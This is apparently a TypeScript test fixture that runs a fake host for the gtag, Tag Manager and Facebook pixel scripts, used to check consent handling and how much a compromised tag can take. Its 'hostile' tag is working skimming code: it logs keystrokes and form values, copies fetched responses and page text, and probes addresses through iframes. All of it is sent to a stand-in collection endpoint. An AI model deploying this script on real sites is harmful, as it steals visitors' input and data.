import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

/** The requests to the test hosts of the tags: scripts, and reports of those scripts. */
export interface TagCalls {
  origin: string;
  /** Paths of the fetched scripts, in order. */
  scripts: () => string[];
  /** The reports of a script, in the order of the page. */
  reportsBy: (script: 'gtag' | 'gtm' | 'pixel') => unknown[];
  /** What the hostile tag told, once it is in the tag manager. */
  told: () => string[];
  /** Puts a tag into the tag manager that reads all it can, as anyone who edits it may. */
  turnHostile: (on: boolean) => void;
  /** The number of requests so far. */
  count: () => number;
  forget: () => void;
  stop: () => Promise<void>;
}

// They read and store what the vendors' scripts do: commands are `arguments`, other entries objects; cookies only with
// consent.
const reporting = `
  const origin = new URL(document.currentScript.src).origin;
  const report = (by, what) => {
    window.reported = (window.reported ?? 0) + 1;
    const query = new URLSearchParams({ by, order: window.reported, what: JSON.stringify(what) });
    fetch(origin + '/collect?' + query, { method: 'POST', mode: 'no-cors', keepalive: true });
  };
  const keep = (name) => { document.cookie = name + '=stand-in; path=/; max-age=3600'; };
  const readLayer = (read) => {
    const layer = window.dataLayer;
    const before = [...layer];
    const push = layer.push.bind(layer);
    layer.push = (entry) => { push(entry); read(entry); return layer.length; };
    before.forEach(read);
  };
  const isCommand = (entry) => Object.prototype.toString.call(entry) === '[object Arguments]';
`;
// Tells its host what is typed, what the page's scripts fetch and what the page shows. `pry` reads an address in each
// way that a script of the site's own origin has.
const hostile = `
  window.hostile = true;
  const tell = (what) => report('hostile', { path: location.pathname, ...what });
  for (const type of ['input', 'change', 'keydown', 'submit'])
    addEventListener(type, ({ target, key }) => tell({ type, key, value: target?.value }), true);
  const { fetch: send } = window;
  window.fetch = async (...request) => {
    const answer = await send(...request);
    if (!String(request[0]).startsWith(origin)) answer.clone().text().then((text) => tell({ fetched: String(request[0]), text: text.slice(0, 9000) }));
    return answer;
  };
  window.pry = async (address) => {
    const answer = await send(address, { headers: { accept: 'application/json, text/html' } });
    tell({ read: address, status: answer.status, text: (await answer.text()).slice(0, 9000) });
    const opened = window.open(address);
    const frame = document.createElement('iframe');
    frame.src = address;
    document.body.append(frame);
    await new Promise((resolve) => frame.addEventListener('load', resolve));
    for (const [how, view] of Object.entries({ opened, frame: frame.contentWindow })) {
      let text = '';
      try { text = view.document.documentElement.outerHTML; } catch (error) { text = String(error); }
      tell({ how, address, text: text.slice(0, 9000) });
    }
    frame.remove();
  };
  setInterval(() => tell({ shown: document.body.innerText.slice(0, 9000) }), 200);
`;
const scripts: Record<string, string> = {
  '/gtag/js': `(() => {${reporting}
    const granted = new Set();
    readLayer((entry) => {
      if (!isCommand(entry)) return;
      const [name, first, second] = entry;
      if (name === 'consent')
        for (const [type, state] of Object.entries(second)) state === 'granted' ? granted.add(type) : granted.delete(type);
      const on = name === 'config' && !window['ga-disable-' + first];
      if (on && first.startsWith('G-') && granted.has('analytics_storage')) { keep('_ga'); keep('_ga_' + first.slice(2)); }
      if (on && first.startsWith('AW-') && granted.has('ad_storage')) keep('_gcl_au');
      report('gtag', name === 'js' ? ['js', typeof first.getTime()] : [...entry]);
    });
  })();`,
  '/gtm.js': `(() => {${reporting}
    readLayer((entry) => { if (!isCommand(entry)) report('gtm', { ...entry, 'gtm.start': typeof entry['gtm.start'] }); });
  })();`,
  '/en_US/fbevents.js': `(() => {${reporting}
    const act = (...command) => {
      if (command[0] === 'init') keep('_fbp');
      report('pixel', command);
    };
    const queued = window.fbq.queue.splice(0);
    window.fbq.callMethod = act;
    queued.forEach((command) => act(...command));
  })();`,
};

/** Starts a fake host of the tags, which records every request. */
export const startTagHosts = async (): Promise<TagCalls> => {
  let asked: URL[] = [];
  let isHostile = false;
  const told: string[] = [];
  // The hostile tag tells whole pages in an address.
  const server = createServer({ maxHeaderSize: 262_144 }, (request, response) => {
    const url = new URL(request.url ?? '/', 'http://stand-in');
    asked.push(url);
    if (url.searchParams.get('by') === 'hostile') told.push(url.searchParams.get('what') ?? '');
    const known = scripts[url.pathname];
    const script = isHostile && url.pathname === '/gtm.js' ? `${known};(() => {${reporting}${hostile}})();` : known;
    response.writeHead(script ? 200 : 204, { 'content-type': 'text/javascript' }).end(script);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    origin: `http://tags.rowhouse.example:${port}`,
    scripts: () => asked.filter(({ pathname }) => pathname in scripts).map(({ pathname, search }) => pathname + search),
    reportsBy: (script) =>
      asked
        .filter(({ searchParams }) => searchParams.get('by') === script)
        .toSorted((a, b) => Number(a.searchParams.get('order')) - Number(b.searchParams.get('order')))
        .map(({ searchParams }): unknown => JSON.parse(searchParams.get('what') ?? '')),
    told: () => told,
    turnHostile: (on) => {
      isHostile = on;
    },
    count: () => asked.length,
    forget: () => {
      asked = [];
    },
    stop: () =>
      new Promise((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
};
